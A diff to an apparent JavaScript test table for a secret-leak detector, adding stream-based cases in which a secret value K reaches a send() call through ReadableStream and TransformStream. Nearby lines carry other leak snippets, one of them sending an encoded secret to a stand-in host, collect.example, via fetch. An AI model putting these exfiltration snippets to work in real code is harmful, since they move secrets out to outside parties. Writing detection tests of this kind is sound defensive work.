@@ -33,6 +33,15 @@ it.each([
   ['an answer', 'Response.json({ K }).text().then(send);'],
   ['a mark', "send(performance.mark('a', { detail: K }).detail);"],
   ['the name of a symbol', 'send(Symbol(K).description);'],
+  [
+    'a stream',
+    'const s = new ReadableStream({ start(c) { c.enqueue(K); c.close(); } }); s.getReader().read().then(({ value }) => send(value));',
+  ],
+  ['a stream that is sent', 'send(new ReadableStream({ pull: (c) => c.enqueue(K) }));'],
+  [
+    'a stream behind another',
+    'const t = new TransformStream({ transform(x, c) { c.enqueue(K); } }); new Blob(["a"]).stream().pipeThrough(t); send(t.readable);',
+  ],
   ['an encoded text, as a path', "fetch(new URL(btoa(K), 'https://collect.example/'));"],
   [
     'an encoded text, as what a client asks for',
@@ -55,6 +64,10 @@ it.each([
   [
     'the text of another element',
     "const p = document.createElement('p'); p.textContent = K; const q = document.createElement('p'); q.textContent = '1'; send(q.innerHTML);",
+  ],
+  [
+    'another stream',
+    "new ReadableStream({ start(c) { c.enqueue(K); } }); const s = new ReadableStream({ start(d) { d.enqueue('1'); } }); send(s);",
   ],
   [
     'a link that is resolved',
